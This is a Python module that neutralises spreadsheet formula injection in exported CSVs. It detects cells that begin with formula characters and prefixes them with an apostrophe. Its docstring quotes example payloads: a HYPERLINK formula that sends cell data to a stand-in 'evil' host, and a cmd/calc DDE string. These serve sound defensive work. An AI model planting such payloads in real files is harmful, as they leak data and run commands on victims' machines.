"""Formula injection: text from an upload must never run as a formula in the spreadsheet it ends up in.

A pupil named ``=HYPERLINK("http://evil/?"&A2, "Click")`` or a subject ``@SUM(1+1)*cmd|' /C calc'!A0``
is text to natbacc, but Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``,
``-`` or ``@`` (or a tab/newline before one) as a formula when they open a CSV (OWASP "CSV Injection").

- Workbooks (``natbacc.export``) write such text as a string cell with Excel's quote prefix: shown and
  kept exactly as written, never evaluated.
- CSV has no cell types, so ``csv_bytes`` prefixes such text with an apostrophe, the OWASP
  recommendation; ``restore`` takes it off again when natbacc reads its own CSV back (the mapping
  file), so a round trip is exact.
"""

from __future__ import annotations

import re

import pandas as pd

#: Starts a formula in a spreadsheet program (including full-width forms Excel also accepts).
FORMULA_START = re.compile(r"^[=+\-@\t\r\n＝＋－＠]")
_QUOTED = re.compile(r"^'(?=[=+\-@\t\r\n＝＋－＠])")


def is_formula_like(value: str) -> bool:
    """True for text a spreadsheet could take for a formula."""
    return bool(FORMULA_START.match(value))


def neutralise(values: pd.Series) -> pd.Series:
    """Text with an apostrophe before anything a spreadsheet would run; other values unchanged."""
    text = values.astype("string")
    return text.where(~text.str.match(FORMULA_START).fillna(False), "'" + text)


def restore(value: str) -> str:
    """``neutralise`` undone for one value read back from natbacc's own CSV."""
    return _QUOTED.sub("", value)


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as a CSV that is safe to open in Excel: formulas neutralised, UTF-8 with a BOM.

    The BOM makes Excel read accents correctly (without it Excel assumes the Windows code page).
    """
    safe = frame.copy()
    for column in safe.columns:
        if pd.api.types.is_string_dtype(safe[column]) or pd.api.types.is_object_dtype(safe[column]):
            safe[column] = neutralise(safe[column])
    return safe.to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")
